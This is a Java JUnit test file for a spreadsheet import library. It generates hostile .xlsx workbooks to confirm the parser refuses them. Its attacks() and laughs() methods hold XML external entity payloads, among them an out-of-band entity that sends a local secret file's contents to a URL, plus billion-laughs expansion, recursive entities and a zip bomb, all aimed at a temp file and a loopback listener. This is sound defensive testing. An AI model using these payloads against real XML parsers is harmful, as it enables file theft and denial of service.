package org.parley.hub.exchange.tabular;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Workbooks whose XML means to read files of the hub's machine, call other hosts, or grow without
/// end (ASVS 1.5.1): two hundred of them. Each is refused or read without what it reached for, in
/// little time, and nobody is called.
class HostileWorkbookTest {

    private static final String SECRET = "zz-kept-on-the-hub-zz";
    private static final Duration LONGEST = Duration.ofSeconds(5);

    private static final Map<String, String> PARTS =
            Map.of(
                    "[Content_Types].xml",
                    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/><Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml\"/><Override PartName=\"/xl/styles.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml\"/><x>&</x></Types>",
                    "_rels/.rels",
                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/><x>&</x></Relationships>",
                    "xl/_rels/workbook.xml.rels",
                    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"r2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings\" Target=\"sharedStrings.xml\"/><x>&</x></Relationships>",
                    "xl/workbook.xml",
                    "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><x>&</x><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>",
                    "xl/sharedStrings.xml",
                    "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\"><si><t>a&</t></si></sst>",
                    "xl/styles.xml",
                    "<styleSheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><x>&</x></styleSheet>",
                    "xl/worksheets/sheet1.xml",
                    "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"inlineStr\"><is><t>b&</t></is></c><c r=\"C1\"><v>1&</v></c></row></sheetData></worksheet>");

    @TempDir Path folder;

    private static String laughs(String of, int depth) {
        var entities = new StringBuilder("<!ENTITY l0 \"" + of + "\">");
        for (int i = 1; i <= depth; i++) {
            entities.append(
                    "<!ENTITY l%d \"%s\">".formatted(i, "&l%d;".formatted(i - 1).repeat(10)));
        }
        return entities.append("<!ENTITY x \"&l%d;\">".formatted(depth)).toString();
    }

    /// What stands between the brackets of a DOCTYPE, or is one.
    private static Map<String, String> attacks(String file, String host) {
        var attacks = new LinkedHashMap<String, String>();
        for (var target :
                List.of(
                        file,
                        host,
                        "ftp://" + host.substring(7),
                        "jar:" + file + "!/x",
                        "netdoc:/x")) {
            attacks.put("system " + target, "<!ENTITY x SYSTEM \"" + target + "\">");
            attacks.put("public " + target, "<!ENTITY x PUBLIC \"-//p\" \"" + target + "\">");
            attacks.put(
                    "parameter " + target,
                    "<!ENTITY % p SYSTEM \"" + target + "\"> %p; <!ENTITY x \"y\">");
            attacks.put(
                    "out of band " + target,
                    "<!ENTITY % f SYSTEM \""
                            + file
                            + "\"><!ENTITY % p \"<!ENTITY x SYSTEM '"
                            + target
                            + "?%f;'>\"> %p;");
            attacks.put(
                    "unparsed " + target,
                    "<!NOTATION n SYSTEM \"n\"><!ENTITY u SYSTEM \""
                            + target
                            + "\" NDATA n><!ENTITY x \"y\">");
        }
        attacks.put("laughs", laughs("ha", 9));
        attacks.put("many laughs", laughs("ha", 30));
        attacks.put(
                "long",
                "<!ENTITY l \""
                        + "a".repeat(100_000)
                        + "\"><!ENTITY x \""
                        + "&l;".repeat(20_000)
                        + "\">");
        attacks.put("in itself", "<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">");
        attacks.put(
                "attribute",
                "<!ATTLIST t a CDATA \"" + "a".repeat(100_000) + "\"><!ENTITY x \"y\">");
        attacks.put("undeclared", "");
        return attacks;
    }

    private Path workbook(String hostile, String doctype) throws IOException {
        var file = Files.createTempFile(folder, "hostile", ".xlsx");
        try (var out = new ZipOutputStream(Files.newOutputStream(file))) {
            for (var part : new TreeMap<>(PARTS).entrySet()) {
                boolean here = part.getKey().equals(hostile);
                out.putNextEntry(new ZipEntry(part.getKey()));
                out.write(
                        ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
                                        + (here ? doctype : "")
                                        + part.getValue().replace("&", here ? "&x;" : ""))
                                .getBytes(UTF_8));
            }
        }
        return file;
    }

    private static String outcome(Path file) {
        try {
            var cells = Tables.cells(file).toString();
            assertThat(cells).doesNotContain(SECRET).hasSizeLessThan(40_000);
            return "read";
        } catch (Unreadable refused) {
            return refused.why().code();
        }
    }

    @Test
    void theSameWorkbookWithoutIllWillIsRead() throws IOException {
        assertThat(Tables.cells(workbook("", ""))).containsExactly(List.of("a", "b", "1"));
    }

    @Test
    void noEntityReachesOutOrGrows() throws IOException {
        var secret = Files.writeString(folder.resolve("secret.txt"), SECRET);
        var outcomes = new TreeMap<String, Integer>();
        var called = new AtomicInteger();
        try (var host = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            Thread.ofVirtual()
                    .start(
                            () -> {
                                while (!host.isClosed()) {
                                    try (var _ = host.accept()) {
                                        called.incrementAndGet();
                                    } catch (IOException closed) {
                                        break;
                                    }
                                }
                            });
            var attacks =
                    attacks(
                            secret.toUri().toString(),
                            "http://127.0.0.1:%d/x".formatted(host.getLocalPort()));
            for (var part : PARTS.keySet()) {
                for (var attack : attacks.entrySet()) {
                    var file = workbook(part, "<!DOCTYPE x [" + attack.getValue() + "]>");
                    long began = System.nanoTime();
                    outcomes.merge(outcome(file), 1, Integer::sum);
                    assertThat(Duration.ofNanos(System.nanoTime() - began))
                            .as("%s in %s", attack.getKey(), part)
                            .isLessThan(LONGEST);
                }
                var outside = "<!DOCTYPE x SYSTEM \"http://127.0.0.1:%d/x.dtd\">";
                outcomes.merge(
                        outcome(workbook(part, outside.formatted(host.getLocalPort()))),
                        1,
                        Integer::sum);
            }
        }
        System.err.println("hostile workbooks: " + outcomes);
        assertThat(called).hasValue(0);
        assertThat(outcomes.values().stream().mapToInt(count -> count).sum()).isGreaterThan(180);
        assertThat(outcomes.keySet())
                .allMatch(code -> code.equals("read") || code.startsWith("exchange."));
    }

    @Test
    void tooManyPartsAreRefused() throws IOException {
        var file = folder.resolve("many.xlsx");
        try (var out = new ZipOutputStream(Files.newOutputStream(file))) {
            for (int i = 0; i < 70_000; i++) {
                out.putNextEntry(new ZipEntry("xl/worksheets/s" + i));
            }
        }
        assertThat(outcome(file)).isEqualTo("exchange.unpacks-too-much");
    }

    @Test
    void numbersAndCellsWithoutEndAreRefusedOrStayWhatTheyAre() throws IOException {
        for (var number :
                List.of("1e999999999", "-1E-999999999", "9".repeat(30_000), "1e2147483647")) {
            var file = folder.resolve("number.csv");
            Files.writeString(file, "a,b\n" + number + ",1\n");
            assertThat(outcome(file)).isEqualTo("read");
            var book = folder.resolve("number.xlsx");
            try (var out = new ZipOutputStream(Files.newOutputStream(book))) {
                for (var part : PARTS.entrySet()) {
                    out.putNextEntry(new ZipEntry(part.getKey()));
                    var content =
                            part.getKey().endsWith("sheet1.xml")
                                    ? part.getValue().replace("1&", number)
                                    : part.getValue();
                    out.write(content.replace("&", "").getBytes(UTF_8));
                }
            }
            assertThat(outcome(book)).isEqualTo("read");
        }
        assertThat(outcome(Tables.text(folder, "a,b\n" + "x".repeat(40_000) + ",1\n", UTF_8)))
                .isEqualTo("exchange.cell-too-long");
        assertThat(outcome(Tables.text(folder, "a,".repeat(2_000) + "\n", UTF_8)))
                .isEqualTo("exchange.too-many-columns");
    }
}
